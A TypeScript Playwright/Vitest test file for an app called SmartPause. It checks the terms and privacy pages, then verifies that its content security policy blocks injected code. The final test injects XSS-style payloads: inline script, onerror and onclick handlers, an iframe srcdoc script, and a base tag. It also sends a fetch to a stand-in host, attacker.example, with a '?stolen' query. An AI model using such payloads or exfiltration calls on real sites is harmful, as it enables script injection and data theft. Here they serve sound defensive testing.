import type { Page } from 'playwright-core';
import { describe, expect, test } from 'vitest';
import { sharedBrowser, withKeptPage } from '../../scripts/browser/browser.ts';
import { productOfThisSuite } from '../support/fixture.ts';
import { User } from '../../scripts/browser/user.ts';

const product = productOfThisSuite();

/** Removes what our server inserts, as if another server sent the document. */
async function withoutCompany(page: Page): Promise<void> {
  await page.route('**/terms', async (route) => {
    const answer = await route.fetch();
    const body = (await answer.text()).replaceAll(/<meta name="smartpause-(company|contact)[^>]*>/g, '');
    await route.fulfill({ response: answer, body });
  });
}

describe('the legal pages', () => {
  const visit = (story: (visitor: User, page: Page) => Promise<void>) =>
    withKeptPage((page) => story(new User(page, product), page));

  test('[FMT-03] they name law, arbitration and the emails that cannot be turned off', () =>
    visit(async (visitor, page) => {
      await visitor.opens('/terms-of-service');
      for (const words of [
        /governed by the laws of the State of Illinois/,
        /binding arbitration in Chicago, Illinois/,
        /Emails for SmartPause actions are mandatory/,
      ]) {
        await visitor.sees(words);
      }
      await page.getByRole('contentinfo').getByRole('link', { name: 'Privacy' }).click();
      await visitor.sees(/Emails for SmartPause actions are mandatory/);
      await visitor.sees(
        /For a copy of everything we store about you, write to smartpause@localhost\.localdomain\./,
      );
    }));

  test.each([
    ['/terms', ['Termination', 'Limitations', 'Governing law', 'Arbitration']],
    ['/privacy', ['Who we share it with', 'How long we keep it', 'After a deletion']],
  ])('[ROUTE-10, FMT-03] %s has its date, its sections, the company and a contact', (path, headings) =>
    visit(async (visitor, page) => {
      await visitor.opens(path);
      await visitor.sees('Last changed: November 27, 2026');
      for (const name of headings) await page.getByRole('heading', { level: 2, name }).waitFor();
      const contact = page.getByRole('heading', { name: 'Contact' }).locator('..').getByRole('link');
      await expect.poll(() => contact.getAttribute('href')).toBe('mailto:smartpause@localhost.localdomain');
    }),
  );

  test('[FMT-03] served by another server, they name only the product', () =>
    visit(async (visitor, page) => {
      await withoutCompany(page);
      await visitor.opens('/terms');
      await visitor.sees('SmartPause (“we”) operates the SmartPause service.');
      await visitor.sees('Reply to any email that you have received from us.');
      await page.getByRole('contentinfo').getByRole('link', { name: 'Privacy' }).click();
      await visitor.sees(/For a copy of everything we store about you, reply to any email from us\./);
    }));

  test('[ROUTE-10] an address with a fragment opens at that section', () =>
    visit(async (visitor, page) => {
      await visitor.opens('/privacy#after-a-deletion');
      const heading = page.getByRole('heading', { name: 'After a deletion' });
      await heading.waitFor();
      await expect.poll(async () => (await heading.boundingBox())?.y).toBeLessThan(200);
    }));
});

describe('the content security policy', () => {
  test.each(['/', '/terms', '/nowhere'])(
    '%s has no inline script, and no style without the nonce',
    async (path) => {
      const answer = await fetch(product.url + path);
      const html = await answer.text();
      const [, nonce = ''] =
        /'nonce-([\w-]{24})'/.exec(answer.headers.get('content-security-policy') ?? '') ?? [];
      expect(nonce).not.toBe('');
      const scripts = [...html.matchAll(/<script\b([^>]*)>([^]*?)<\/script>/g)];
      expect(scripts.length).toBeGreaterThan(1);
      for (const [, attributes, code] of scripts) {
        expect([attributes, code]).toEqual([expect.stringMatching(/ src="\/assets\//), '']);
      }
      const styles = [...html.matchAll(/<style\b([^>]*)>/g)].map(([, attributes = '']) => attributes);
      for (const attributes of styles) expect(attributes).toContain(`nonce="${nonce}"`);
      expect(html.split(nonce).length).toBeGreaterThan(1);
      expect(html).not.toMatch(/<[^>]+\son\w+=|STYLE_NONCE|javascript:/);
    },
  );

  test('injected markup and scripts have no effect', async () => {
    const context = await (await sharedBrowser()).newContext();
    try {
      const page = await context.newPage();
      const unknown: string[] = [];
      page.on('console', (message) => {
        if (message.text().includes('Permissions-Policy')) unknown.push(message.text());
      });
      for (const path of ['/', '/terms']) {
        await page.goto(product.url + path);
        await page.getByRole('contentinfo').waitFor();
        // Each attack records what the browser allowed.
        const done = await page.evaluate<string[]>(`(async () => {
          const done = [];
          // What runs in the evaluation itself may do more than the page.
          await new Promise(requestAnimationFrame);
          globalThis.note = (what) => done.push(what);
          const attempt = (act) => { try { act(); } catch {} };
          const put = (name, fields) => {
            const element = Object.assign(document.createElement(name), fields);
            document.body.append(element);
            return element;
          };
          attempt(() => put('script', { textContent: 'note("inline script")' }));
          attempt(() => { put('div').innerHTML = '<img src="x" onerror="note(\\'markup\\')">'; note('made markup'); });
          attempt(() => put('button').setAttribute('onclick', 'note("handler")'));
          attempt(() => put('iframe', { srcdoc: '<script>parent.note("frame")</script>' }));
          attempt(() => new Function('note("code from text")')());
          attempt(() => put('base', { href: 'https://attacker.example/' }));
          if (!document.baseURI.startsWith(location.origin)) note('base');
          put('style', { textContent: 'body { outline: 3px solid red !important }' });
          if (getComputedStyle(document.body).outlineStyle === 'solid') note('style element');
          await fetch('https://attacker.example/?stolen').then(() => note('sent'), () => undefined);
          document.querySelectorAll('button').forEach((button) => button.hasAttribute('onclick') && button.click());
          await new Promise(requestAnimationFrame);
          return done;
        })()`);
        expect(done, path).toEqual([]);
        expect(unknown, path).toEqual([]);
      }
    } finally {
      await context.close();
    }
  });
});
